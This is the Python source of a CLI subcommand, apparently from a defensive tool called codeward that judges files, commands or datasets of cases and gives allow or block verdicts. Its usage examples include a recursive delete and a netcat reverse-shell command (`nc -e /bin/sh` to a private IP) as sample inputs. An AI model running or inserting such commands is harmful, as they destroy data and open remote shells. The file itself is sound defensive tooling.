"""`codeward check`: a verdict for a file, a command, standard input or a dataset of cases."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import click

from codeward.adapters.cli.identity import actor_context, token_actor, token_option
from codeward.context.inputs import (
    build_subject,
    decode,
    read_bytes,
    read_cases,
    record_to_request,
)
from codeward.engine import Guard
from codeward.errors import CodewardError, InputError
from codeward.model import Action, Decision
from codeward.render.text import render_text
from codeward.sandbox import Sandbox
from codeward.store.local import store_for_check

EXIT_CODES = {Action.ALLOW: 0, Action.NOTICE: 0, Action.CONFIRM: 3, Action.REVIEW: 3, Action.BLOCK: 4}


def policy_option(function: click.decorators.FC) -> click.decorators.FC:
    return click.option(
        "--policy",
        "policies",
        multiple=True,
        metavar="FILE|pack:NAME",
        help="A policy layer over the built-in default (repeatable, in order: org, team, project, …).",
    )(function)


@click.command()
@click.argument("file", required=False, metavar="[FILE|-]")
@click.option("-c", "--command", "code", metavar="CODE", help="Judge this text instead of a file.")
@click.option(
    "--cases",
    type=click.Path(dir_okay=False, path_type=Path),
    help="Judge every record of a JSON-lines dataset.",
)
@click.option(
    "--lang",
    "--language",
    "language",
    help="Language (bash, sh, python, javascript, typescript, powershell, …); detected when omitted.",
)
@click.option(
    "--kind",
    type=click.Choice(["code", "command", "prompt", "file_write", "patch"]),
    help="What the text is (default: command with -c, code otherwise).",
)
@click.option(
    "--mode",
    type=click.Choice(["generate", "execute"]),
    help="generate: shown to a person; execute: an agent will run it. Default: execute for commands, generate for code files.",
)
@click.option("--intent", help="Declared intent (counts only if a verified role is cleared for it).")
@click.option("--role", "roles", multiple=True, help="Your role (repeatable). Unverified without --token.")
@token_option
@click.option(
    "--project",
    type=click.Path(exists=True, file_okay=False),
    help="The project directory (its files, manifests and README are read).",
)
@click.option("--prompt", help="What the developer asked for.")
@click.option(
    "--env", "environment", type=click.Choice(["dev", "staging", "production"]), help="Where it would run."
)
@click.option(
    "--session", help="Session id: repeated stops in one session raise friction for that session only."
)
@click.option("--tool", help="Which assistant or agent produced it.")
@policy_option
@click.option("--format", "output", type=click.Choice(["text", "json"]), default="text", show_default=True)
@click.option("--color/--no-color", default=None, help="Colour the text output (default: when a terminal).")
@click.option(
    "--db", envvar="CODEWARD_DB", metavar="URL|FILE", help="The audit store (default: $CODEWARD_HOME)."
)
@click.option(
    "--sandbox",
    "sandbox_mode",
    type=click.Choice(["auto", "always", "never"]),
    default=None,
    help="Run the snippet in the sandbox: auto (default) when the policy asks, always, or never. "
    "--cases runs none unless told.",
)
def check(
    file: str | None,
    code: str | None,
    cases: Path | None,
    language: str | None,
    kind: str | None,
    mode: str | None,
    intent: str | None,
    roles: tuple[str, ...],
    token: str | None,
    project: str | None,
    prompt: str | None,
    environment: str | None,
    session: str | None,
    tool: str | None,
    policies: tuple[str, ...],
    output: str,
    color: bool | None,
    db: str | None,
    sandbox_mode: str | None,
) -> None:
    """Judge a snippet: FILE, `-` for standard input, -c CODE, or --cases FILE.jsonl.

    \b
    Examples:
      codeward check deploy.sh
      codeward check -c 'rm -rf "$BUILD/"' --lang bash
      cat x.sh | codeward check -
      codeward check -c 'nc -e /bin/sh 10.0.0.5 4444' --intent security_research --role security-engineer
      codeward check --cases bench/cases/dev.jsonl --format json
    """
    sources = sum(x is not None for x in (file, code, cases))
    if sources != 1:
        raise click.UsageError("give exactly one of FILE, `-`, -c CODE or --cases FILE")
    if cases is not None and sandbox_mode is None:
        sandbox_mode = "never"
    sandboxing = sandbox_mode or "auto"
    guard = Guard(list(policies), sandbox=sandbox_for(sandboxing), sandbox_mode=sandboxing)
    if cases is not None:
        sys.exit(_check_cases(guard, cases))
    guard.store = store_for_check(db)  # a dataset run (--cases) is an evaluation, not a request on record

    path: str | None = None
    if code is not None:
        content = code
        kind = kind or "command"
    elif file == "-":
        content = decode(sys.stdin.buffer.read())
    else:
        assert file is not None
        path = file
        content = decode(read_bytes(Path(file)))
    subject = build_subject(content, kind=kind, language=language, mode=mode, path=path)
    actor = token_actor(guard.policy, token, roles)
    context = actor_context(
        actor,
        roles,
        intent=intent,
        project=project,
        prompt=prompt,
        environment=environment,
        tool=tool or "cli",
        session=session,
    )
    decision = guard.check(subject, context)
    _emit(decision, content, output, color)
    sys.exit(EXIT_CODES[decision.action])


def sandbox_for(mode: str) -> Sandbox | None:
    """The sandbox for `--sandbox MODE`: none for never (or auto where it cannot run); always insists."""
    if mode == "never":
        return None
    sandbox = Sandbox()
    ok, problem = sandbox.available()
    if ok:
        return sandbox
    if mode == "always":
        raise click.ClickException(f"--sandbox always: the sandbox cannot run here: {problem}")
    return None


def _emit(decision: Decision, content: str, output: str, color: bool | None) -> None:
    if output == "json":
        click.echo(decision.to_json())
    else:
        use_color = sys.stdout.isatty() if color is None else color
        click.echo(render_text(decision, content, color=use_color))


def _check_cases(guard: Guard, cases: Path) -> int:
    worst = 0
    failed = False
    for number, record in read_cases(cases):
        where = f"{cases}:{number}"
        try:
            if isinstance(record, InputError):
                raise record
            if isinstance(record, dict):
                record = _resolve_project(record, cases.parent)
            record_id, subject, context = record_to_request(record, where=where)
            decision = guard.check(subject, context, record_id=record_id)
        except CodewardError as error:
            failed = True
            record_id = record.get("id") if isinstance(record, dict) else None
            click.echo(json.dumps({"id": record_id, "error": str(error), "line": number}))
            continue
        click.echo(decision.to_json())
        worst = max(worst, EXIT_CODES[decision.action])
    return 2 if failed else worst


def _resolve_project(record: dict[str, object], base: Path) -> dict[str, object]:
    """A project path in a record is relative to the dataset file."""
    context = record.get("context")
    if isinstance(context, dict) and isinstance(context.get("project"), str):
        project = Path(str(context["project"])).expanduser()
        if not project.is_absolute():
            project = base / project
        record = {**record, "context": {**context, "project": str(project)}}
    return record
